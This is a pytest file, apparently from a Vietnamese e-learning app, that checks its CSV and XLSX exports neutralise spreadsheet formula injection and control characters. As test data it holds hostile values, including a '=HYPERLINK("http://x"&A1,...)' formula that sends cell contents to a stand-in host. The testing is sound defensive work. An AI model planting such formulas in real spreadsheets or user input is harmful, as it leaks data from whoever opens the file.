"""Every CSV and XLSX export neutralises formulas in user text and survives control
characters: names such as =HYPERLINK(...) arrive as text, `\\x0b` never causes a 500."""
from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from elearn.clock import local_today
from elearn.content.pledge_template import DEFAULT_TEMPLATE
from elearn.extensions import db
from elearn.models import Position, Role, StudyPlan
from elearn.registry import current_registry
from elearn.services import completions
from elearn.services import pledges as pledge_service
from elearn.services.accounts import create_user, find_user, grant_role
from elearn.services.committees import set_seat
from elearn.services.orgs import create_unit
from elearn.spreadsheet import safe_cell
from elearn.testing import csrf_token, job_id_from, login, run_queued_jobs


PASSWORD = "mat-khau-dai"
COURSE = "cd-2016-toan-khoa"
YEAR = local_today().year
FORMULA = '=HYPERLINK("http://x"&A1,"Xem")'
CONTROL = "Trần\x0bVăn Tab"
DATASETS = ("summary", "completions", "pledges", "missing-completion", "missing-pledge")


def test_the_rule_on_single_values():
    assert safe_cell(FORMULA) == "'" + FORMULA
    for start in ("+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"):
        assert safe_cell(start) == "'" + start
    assert safe_cell(CONTROL) == "TrầnVăn Tab"
    assert safe_cell("\x0b=1+1") == "'=1+1"  # stripping cannot uncover a formula
    assert safe_cell(90.5) == 90.5 and safe_cell(-3) == -3 and safe_cell(None) == ""
    assert safe_cell("-5") == "-5" and safe_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_cell(date(2026, 3, 15)) == date(2026, 3, 15)
    # What a browser can post but XML cannot hold (the input sweep's pledge text): dropped.
    assert safe_cell("Đảng\ud7ff\ufffe viên\ud800") == "Đảng\ud7ff viên"


@pytest.fixture
def hostile(app):
    """A unit and people whose names are formulas or carry control characters."""
    with app.app_context():
        province = create_unit("P", "Tỉnh ủy", "province")
        grassroots = create_unit("G", "@Đảng ủy\x0b xã", "grassroots", province)
        cell = create_unit("C", "-1+2 Chi bộ", "cell", grassroots)
        reviewer = create_user("ds", "Lê Văn Đảng", PASSWORD, grassroots, position="Bí thư")
        reviewer.is_leader = True
        set_seat(grassroots, reviewer, Position.SECRETARY, None)
        grant_role(create_user("tgiao", "Lê Thu Hà", PASSWORD, province), Role.OFFICER,
                   province)
        bt = create_user("bt", FORMULA, PASSWORD, cell, position="+Bí thư\x0b")
        bt.is_leader = True
        set_seat(cell, bt, Position.SECRETARY, None)
        create_user("dv", CONTROL, PASSWORD, cell)
        db.session.add(StudyPlan(year=YEAR, unit=province, title="Kế hoạch", audience="cadre",
                                 courses=json.dumps([COURSE]),
                                 deadline=local_today() + timedelta(days=30),
                                 superiors_first=False, template=DEFAULT_TEMPLATE))
        course = current_registry().course(COURSE)
        for username in ("ds", "bt", "dv"):
            completions.create(find_user(username), course, method="online", score=90)
        pledge = pledge_service.pledge_for(bt, pledge_service.applicable_plan(bt, YEAR))
        pledge.draft = json.dumps({"ct05": [{"what": "=1+1 gương mẫu\x0b",
                                             "by_when": "@cả năm", "how": "-Chi bộ kiểm tra"}]})
        pledge.draft_commitment = json.dumps({"accepted": True, "manifestations": [
            {"id": "B4", "guard": "=HYPERLINK(\"http://x\")\x0b"}]})
        pledge_service.file(pledge)
        db.session.commit()
    return app


def _cells_of(response, extension):
    if extension == "csv":
        text = response.get_data(as_text=True).lstrip("\ufeff")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _assert_no_live_formula(cells, extension):
    for cell in cells:
        value = cell if extension == "csv" else cell.value
        if extension == "xlsx":
            assert cell.data_type != "f", f"live formula {value!r}"
        if isinstance(value, str):
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert "\x0b" not in value


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_every_dashboard_export_neutralises_user_text(hostile, extension):
    officer = hostile.test_client()
    assert login(officer, "tgiao", PASSWORD).status_code == 302
    seen = []
    for dataset in DATASETS:
        url = f"/dashboard/export/{dataset}.{extension}?unit=P&year={YEAR}&course={COURSE}"
        if extension == "xlsx":  # XLSX files are prepared by a job, then downloaded
            job_id = job_id_from(officer.post(url, data={"csrf_token": csrf_token(officer,
                                                                                    url)}))
            run_queued_jobs(hostile)
            response = officer.get(f"/jobs/{job_id}/download")
        else:
            response = officer.get(url)
        assert response.status_code == 200, dataset
        cells = _cells_of(response, extension)
        _assert_no_live_formula(cells, extension)
        seen += [c if extension == "csv" else c.value for c in cells]
    assert "'" + FORMULA in seen and "TrầnVăn Tab" in seen
    assert "'@Đảng ủy xã" in seen and "'-1+2 Chi bộ" in seen
    assert 90 in seen or "90" in seen or "90.0" in seen  # scores stay numbers


def test_pledge_bundles_neutralise_user_text(hostile):
    reviewer = hostile.test_client()
    assert login(reviewer, "ds", PASSWORD).status_code == 302
    xlsx = reviewer.get(f"/review/export.xlsx?unit=G&year={YEAR}")
    assert xlsx.status_code == 200
    cells = _cells_of(xlsx, "xlsx")
    _assert_no_live_formula(cells, "xlsx")
    values = {cell.value for cell in cells}
    assert {"'" + FORMULA, "'+Bí thư", "'=1+1 gương mẫu", "'@cả năm", "'-Chi bộ kiểm tra"} <= values
    assert reviewer.get(f"/review/export.pdf?unit=G&year={YEAR}").status_code == 200
